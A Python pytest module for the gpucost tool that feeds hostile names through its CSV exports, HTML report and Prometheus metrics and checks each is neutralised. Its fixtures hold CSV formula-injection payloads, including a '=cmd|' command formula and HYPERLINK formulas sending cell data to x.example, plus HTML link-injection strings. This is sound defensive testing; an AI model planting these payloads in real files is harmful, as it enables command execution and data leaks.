"""Hostile names against what gpucost hands on: the Prometheus metrics, the CSV files and the HTML report
(issue 35, items 8, 10 and 11; docs/security.md, "Metrics, exports and the report").

Names are input: a team, env and app come from a binding anyone who starts a process may set, a GPU model
and a node id from a sample. Each test sends names built to do harm where they land (a label value per
message, a spreadsheet formula, Plotly's pseudo-HTML) and checks what comes out against an independent
read of the Parquet.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import subprocess
import sys
import tracemalloc
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest
from prometheus_client import CollectorRegistry, generate_latest
from prometheus_client.parser import text_string_to_metric_families

from gpucost.cost_metrics import CostMetrics
from gpucost.producers.simulate import FleetSpec, simulate
from gpucost.report import COSTLIEST
from gpucost.report_html import PLOTS
from gpucost.schemas.codec import encode_event
from gpucost.schemas.events import TenantBinding
from gpucost.streams.settings import AuditSettings
from tests.conftest import HOSTILE_LINES, ROOT, horizon_label
from tests.support.cli import gpucost

#: (team, env, app) for each of the simulator's five tenants: formulas as OWASP lists them, a quote already
#: in front, a negative number, a NUL and a carriage return, and Plotly's pseudo-HTML
TENANTS = [
    ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"),
    ("-2+3 &lt;i&gt;", "\t=1+1", "'=already quoted"),
    ("-12.5", '\r=HYPERLINK("//x.example/?"&A1)', "nul\x00app"),
    ('<a href="//x.example/">ads</a>', "<b>x</b>", "<i>i</i><br><sub>s</sub>"),
    ("<b>x</b>", "=1+1\x00", "@x"),
]
MODEL = '=HYPERLINK("https://x.example/?"&A1,"H100")'
NODES = ['<a href="https://x">ads</a>', "+node\x00\x07", "@node"]
SPEC = FleetSpec(gpus=3, gpus_per_node=1, hours=3, interval_s=60, seed=5, late_binding_fraction=0.5)
MONTH = "2025-01"
#: what a cell a spreadsheet would take for a formula begins with (OWASP)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hostile_events() -> list[str]:
    """The simulated fleet's events with every name replaced by a hostile one, consistently."""
    bindings = 0
    models: dict[str, str] = {}
    lines = []
    for event in simulate(SPEC):
        update: dict[str, Any] = {}
        if isinstance(event, TenantBinding):
            update.update(zip(("team", "env", "app"), TENANTS[bindings % len(TENANTS)]))
            bindings += 1
        if hasattr(event, "gpu_model"):
            update["gpu_model"] = models.setdefault(event.gpu_model, MODEL + "x" * len(models))
        if hasattr(event, "node_id"):
            update["node_id"] = NODES[int(event.node_id.rsplit("-", 1)[1])]
        lines.append(encode_event(event.model_copy(update=update)))
    return lines


_RUNS: dict[str, Path] = {}


@pytest.fixture
def replayed(horizon: AuditSettings, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile fleet replayed once per configuration (``horizon``) for the whole module: its --out."""
    label = horizon_label(horizon)
    if label not in _RUNS:
        base = tmp_path_factory.mktemp(f"hostile-exports-{label}")
        (base / "events").mkdir()
        (base / "events" / "events.jsonl").write_text("\n".join(hostile_events()) + "\n")
        gpucost("replay", str(base / "events"), "--out", str(base / "out"), "--report", "on")
        _RUNS[label] = base / "out"
    return _RUNS[label]


def records(out: Path) -> dict[str, dict[str, Any]]:
    """The cost records as the Parquet holds them, read by DuckDB without gpucost's views: by record id."""
    rel = duckdb.sql(f"SELECT * FROM read_parquet('{out}/cost/**/*.parquet', hive_partitioning = false)")
    return {r["record_id"]: r for r in (dict(zip(rel.columns, row)) for row in rel.fetchall())}


def as_shown(name: str) -> str:
    """A name as a CSV shows it: C0 controls but tab, line feed and carriage return as U+FFFD."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "\ufffd", name)


def unprefixed(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def stdout(*args: str) -> bytes:
    """What a gpucost command writes, byte for byte (a carriage return in a cell stays one)."""
    proc = subprocess.run([sys.executable, "-m", "gpucost.cli", *args], capture_output=True, cwd=ROOT, timeout=600)
    assert proc.returncode == 0, proc.stderr.decode()
    return proc.stdout


def read_csv(path_or_bytes: Path | bytes) -> tuple[bytes, list[dict[str, str]]]:
    """A CSV file's (or output's) bytes, and its rows parsed back by Python's csv module."""
    raw = path_or_bytes.read_bytes() if isinstance(path_or_bytes, Path) else path_or_bytes
    return raw, list(csv.DictReader(io.StringIO(raw.decode(), newline="")))


def unquoted(raw: bytes, rows: list[dict[str, str]], columns: tuple[str, ...]) -> list[str]:
    """Text cells of ``columns`` the file does not hold quoted (as a spreadsheet splitting on ';' needs them)."""
    text = raw.decode()
    cells = {row[c] for row in rows for c in columns if row[c]}
    return sorted(c for c in cells if '"' + c.replace('"', '""') + '"' not in text)


def formulas(rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would run: beginning with a formula character, and not a number."""
    return [c for row in rows for c in [*row.values(), *row] if c.startswith(FORMULA_START) and not is_number(c)]


def test_focus_csv_cells_reach_a_spreadsheet_as_text(replayed: Path, horizon: AuditSettings, tmp_path: Path) -> None:
    """Today's CSV held 7,917 formula cells and 2,639 NUL bytes for a month of hostile names; the Parquet must
    stay byte-exact."""
    gpucost("export", "focus", str(tmp_path / "f.csv"), "--out", str(replayed), "--month", MONTH)
    gpucost(
        "export", "focus", str(tmp_path / "f.parquet"), "--out", str(replayed), "--month", MONTH, "--format", "parquet"
    )
    raw, rows = read_csv(tmp_path / "f.csv")
    stored = records(replayed)
    prefixed = sum(c.startswith("'") for row in rows for c in row.values())
    HOSTILE_LINES.append(
        f"{'hostile names, FOCUS CSV ' + horizon_label(horizon):<44} sent {len(rows):>6,} rows | "
        f"cells prefixed ' {prefixed:,}, formulas left {len(formulas(rows)):,}, NUL bytes "
        f"{raw.count(0):,}"
    )
    assert raw.count(0) == 0 and formulas(rows) == []
    assert unquoted(raw, rows, ("SubAccountId", "SkuId", "ResourceName", "x_TenantKey", "Tags")) == []
    assert prefixed and {r["x_RecordId"] for r in rows} == set(stored)  # the case is made; every record, once
    for row in rows:
        record = stored[row["x_RecordId"]]
        resource = f"{record['node_id']}/{record['gpu_uuid']}"
        for column, name in (
            ("SubAccountId", record["team"]),
            ("x_TenantKey", record["tenant_key"]),
            ("SkuId", record["gpu_model"]),
            ("ResourceName", resource),
        ):
            assert unprefixed(row[column]) == as_shown(name), (column, row[column])
        assert json.loads(row["Tags"])["app"] == record["app"]  # JSON writes a NUL as \u0000: exact
        assert Decimal(row["BilledCost"]) * 10**6 == record["cost_micro_usd"]  # numbers as numbers, negative too
    assert any(r["cost_micro_usd"] < 0 for r in stored.values()) or horizon.revision_horizon_s == 0
    exact = duckdb.sql(f"SELECT x_RecordId, SubAccountId, Tags FROM read_parquet('{tmp_path / 'f.parquet'}')")
    for record_id, team, tags in exact.fetchall():
        assert team == stored[record_id]["team"] and json.loads(tags)["app"] == stored[record_id]["app"]


def test_query_and_whatif_csv_cells_reach_a_spreadsheet_as_text(replayed: Path, horizon: AuditSettings) -> None:
    """``gpucost query --format csv`` wrote names as they were: formulas, NUL bytes."""
    sql = (
        "SELECT record_id, team, env, app, gpu_model, node_id, cost_micro_usd, -1 - cost_micro_usd AS negated FROM cost"
    )
    raw, rows = read_csv(stdout("query", "--out", str(replayed), sql, "--format", "csv"))
    what_raw, what = read_csv(stdout("whatif", "--out", str(replayed), "--format", "csv"))
    stored = records(replayed)
    HOSTILE_LINES.append(
        f"{'hostile names, query/whatif CSV ' + horizon_label(horizon):<44} sent {len(rows):>6,} "
        f"rows | formulas left {len(formulas(rows + what)):,}, NUL bytes "
        f"{raw.count(0) + what_raw.count(0):,}"
    )
    assert raw.count(0) == what_raw.count(0) == 0 and formulas(rows) == formulas(what) == []
    assert {r["record_id"] for r in rows} == set(stored)
    assert unquoted(raw, rows, ("team", "env", "app", "gpu_model", "node_id")) == []
    for row in rows:
        record = stored[row["record_id"]]
        for field in ("team", "env", "app", "gpu_model", "node_id"):
            assert unprefixed(row[field]) == as_shown(record[field] or ""), (field, row[field])
        assert int(row["negated"]) == -1 - record["cost_micro_usd"]  # a negative number is no formula
    assert {unprefixed(r["team"]) for r in what} >= {as_shown(t) for t, _, _ in TENANTS}


class _Tags(HTMLParser):
    """The elements of a page (outside scripts) and the text of its team table's first column."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.teams: list[str] = []
        self._cell = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._cell = self._cell + 1 if tag == "td" else 0 if tag == "tr" else self._cell

    def handle_data(self, data: str) -> None:
        if self._cell == 1 and self.tags[-1] == "td":
            self.teams.append(data)


def figures(page: str) -> list[Any]:
    """The data and layout of every figure, as the page hands them to ``Plotly.newPlot``."""
    decoder, found = json.JSONDecoder(), []
    for start in (m.end() for m in re.finditer(r"Plotly\.newPlot\(\s*", page)):
        div, end = decoder.raw_decode(page, start)
        data, end = decoder.raw_decode(page, re.compile(r",\s*").match(page, end).end())  # type: ignore[union-attr]
        layout, _ = decoder.raw_decode(page, re.compile(r",\s*").match(page, end).end())  # type: ignore[union-attr]
        found.append((div, data, layout))
    return found


def strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, (list, tuple)) else []
    return [s for item in items for s in strings(item)]


def test_report_shows_names_as_text(replayed: Path, horizon: AuditSettings) -> None:
    """Plotly drew ``<a href>`` in a team name as a live link in the legend, ``<b>`` as bold."""
    page = (replayed / "report.html").read_text()
    shown = [s for fig in figures(page) for s in strings(fig[1:])]
    marked = [s for s in shown if "<" in s]  # pseudo-HTML needs a '<'; no title or template of ours has one
    tags = _Tags()
    tags.feed(page)
    HOSTILE_LINES.append(
        f"{'hostile names, HTML report ' + horizon_label(horizon):<44} sent {len(TENANTS):>6,} "
        f"tenants | figure strings with '<' {len(marked):,}, tags from names "
        f"{sum(t in ('a', 'b', 'i', 'sub') for t in tags.tags):,}"
    )
    sections = len(PLOTS) + len(COSTLIEST) - page.count('<table id="costliest-')  # a table of kernels, or a line
    assert len(figures(page)) + page.count('<p class="empty">') == sections and marked == []  # no data: a line
    assert any('&lt;a href="//x.example/"&gt;ads&lt;/a&gt;' in s for s in shown)  # the case is made, escaped
    assert any('&lt;a href="https://x"&gt;ads&lt;/a&gt;/' in s for s in shown)  # the node, in the MAE hover text
    assert any("-2+3 &amp;lt;i&amp;gt;" in s for s in shown)  # an entity in a name shows as written, too
    assert not {"a", "b", "i", "sub", "br"} & set(tags.tags)
    assert {'<a href="//x.example/">ads</a>', "<b>x</b>"} <= set(tags.teams)  # the table's text, as written


@pytest.mark.slow
def test_report_in_a_browser_holds_no_link_from_a_name(replayed: Path, browser) -> None:  # type: ignore[no-untyped-def]
    browser.get((replayed / "report.html").as_uri())
    links = browser.execute_script(
        "return Array.from(document.querySelectorAll('a')).map(a => a.getAttribute('href') || "
        "a.getAttribute('xlink:href') || '').filter(h => h.includes('x.example') || h.startsWith('https://x'))"
    )
    bold = browser.execute_script("return document.querySelectorAll('.legendtext tspan[style*=\"bold\"]').length")
    assert links == [] and bold == 0


N = 20_000


def hostile_tables(rnd: random.Random) -> dict[str, pa.Table]:
    """Cost, allocation, idle cost, reclaim and health records with ``N`` names, models, nodes and grades never seen
    twice, as a sink reads them back from topics anyone may write."""
    names = [f"=cmd|'{i}'!A0<a href=\"https://x/{i}\">" for i in range(N)]
    costs = [rnd.choice([-1, 1]) * rnd.randrange(1, 10**6) for _ in range(N)]
    cost = pa.table(
        {
            "team": names + ["idle"] * N,
            "env": names * 2,
            "app": names * 2,
            "sla": ["Gold"] * 2 * N,
            "gpu_model": [f"model-{n}" for n in names] * 2,
            "node_id": [f"node-{n}" for n in names] * 2,
            "cost_micro_usd": pa.array(costs + [abs(c) for c in costs], pa.int64()),
            # the names as label values too (a pod's name, any annotation): idle carries none
            "labels": [json.dumps({"ns": n}, separators=(",", ":")) for n in names]
            + ["not json", '{"ns": 7}', "[1]"]  # labels no source writes: shown by node, not by label
            + [None] * (N - 3),
        }
    )
    return {
        "cost": cost,
        "allocation": cost.set_column(0, "team", pa.array(names + ["unallocated"] * N)),
        "reclaim": pa.table({"sla": [f"@{n}" for n in names], "team": names}),
        "health": pa.table(
            {
                "gpu_uuid": [f"GPU-{i}" for i in range(N)],
                "window_end_ns": list(range(N)),
                "grade": [f"<b>{n}</b>" for n in names],
                "breaker_state": ["removed"] * N,
            }
        ),
    }


def test_metric_series_stay_within_the_cap_whatever_the_names() -> None:
    """22,000 series (+314 MiB) from one hostile input: per-model ``_other``, idle by model and node, reclaim by team
    and GPUs by grade had no cap."""
    cap, tables = 100, hostile_tables(random.Random(35))
    tracemalloc.start()
    before = tracemalloc.get_traced_memory()[0]
    metrics = CostMetrics(max_series=cap)
    for kind, table in tables.items():
        metrics.observe(kind, table)
    kept = tracemalloc.get_traced_memory()[0] - before
    tracemalloc.stop()
    registry = CollectorRegistry(auto_describe=False)
    registry.register(type("Scrape", (), {"collect": lambda self: metrics.metrics()})())  # type: ignore[arg-type]
    text = generate_latest(registry).decode()
    series = {
        f.name: {tuple(sorted(s.labels.items())): s.value for s in f.samples}
        for f in text_string_to_metric_families(text)
    }
    folded = {dict(k).get("family"): v for k, v in series.pop("gpucost_cost_series_folded").items()}
    HOSTILE_LINES.append(
        f"{f'{N:,} hostile names, models, nodes, grades':<44} sent {4 * N:>6,} rows | series "
        f"{sum(map(len, series.values())):,} (cap {cap} per family), folded "
        f"{sum(folded.values()):,.0f}, {len(text) / 1024:,.0f} KiB scraped, "
        f"{kept / 2**20:.1f} MiB kept"
    )
    assert series and all(0 < len(s) <= cap for s in series.values()), {n: len(s) for n, s in series.items()}
    cost = tables["cost"].to_pydict()
    want = {
        "gpucost_cost_micro_usd": sum(c for c in cost["cost_micro_usd"] if c > 0),
        "gpucost_cost_credit_micro_usd": -sum(c for c in cost["cost_micro_usd"] if c < 0),
        "gpucost_allocated_micro_usd": sum(c for c in cost["cost_micro_usd"] if c > 0),
        "gpucost_allocated_credit_micro_usd": -sum(c for c in cost["cost_micro_usd"] if c < 0),
        "gpucost_idle_cost_micro_usd": sum(c for t, c in zip(cost["team"], cost["cost_micro_usd"]) if t == "idle"),
        "gpucost_reclaim_triggers": N,
        "gpucost_gpus": N,
        # both tables, by node: every row; by label: the names' rows, on each basis
        "gpucost_node_cost_micro_usd": 2 * sum(c for c in cost["cost_micro_usd"] if c > 0),
        "gpucost_node_cost_credit_micro_usd": -2 * sum(c for c in cost["cost_micro_usd"] if c < 0),
        "gpucost_label_cost_micro_usd": 2 * sum(c for c in cost["cost_micro_usd"][:N] if c > 0),  # idle: none
        "gpucost_label_cost_credit_micro_usd": -2 * sum(c for c in cost["cost_micro_usd"] if c < 0),
    }
    assert {name: sum(s.values()) for name, s in series.items()} == want  # folded, nothing lost
    distinct = {
        "gpucost_cost_micro_usd_total": sum(c > 0 for c in cost["cost_micro_usd"]),
        "gpucost_cost_credit_micro_usd_total": sum(c < 0 for c in cost["cost_micro_usd"]),
        # the allocation table's rows: the names' own, then N 'unallocated' ones, each of another env, app and model
        "gpucost_allocated_micro_usd_total": sum(c > 0 for c in cost["cost_micro_usd"][:N]) + N,
        "gpucost_allocated_credit_micro_usd_total": sum(c < 0 for c in cost["cost_micro_usd"]),
        "gpucost_idle_cost_micro_usd_total": N,
        "gpucost_reclaim_triggers_total": N,
        "gpucost_gpus": N,
        "gpucost_node_cost_micro_usd_total": 2 * N,  # each node's idle row is a charge, on each basis
        "gpucost_node_cost_credit_micro_usd_total": 2 * sum(c < 0 for c in cost["cost_micro_usd"]),
        "gpucost_label_cost_micro_usd_total": 2 * sum(c > 0 for c in cost["cost_micro_usd"][:N]),
        "gpucost_label_cost_credit_micro_usd_total": 2 * sum(c < 0 for c in cost["cost_micro_usd"]),
    }
    assert folded == {name: n - (cap - 1) for name, n in distinct.items()}  # all but cap - 1 kept, counted
    assert kept < 16 * 2**20  # the GPUs' latest records (20,000 GPUs), not the names' series


def test_a_cap_with_no_room_for_its_other_series_is_refused(tmp_path: Path) -> None:
    """``--cost-series 0`` was taken, and the cap could not hold (the ``_other`` series is one of them)."""
    proc = gpucost(
        "run",
        "--source",
        "simulate",
        "--gpus",
        "1",
        "--hours",
        "0.05",
        "--duration-s",
        "1",
        "--out",
        str(tmp_path / "o"),
        "--metrics-address",
        "127.0.0.1:0",
        "--cost-series",
        "0",
        check=False,
    )
    HOSTILE_LINES.append(
        f"{'--cost-series 0':<44} sent {1:>6,} | exit {proc.returncode}: "
        f"{proc.stderr.strip().splitlines()[-1][:60] if proc.stderr.strip() else ''}"
    )
    assert proc.returncode == 2 and "--cost-series" in proc.stderr and "Traceback" not in proc.stderr
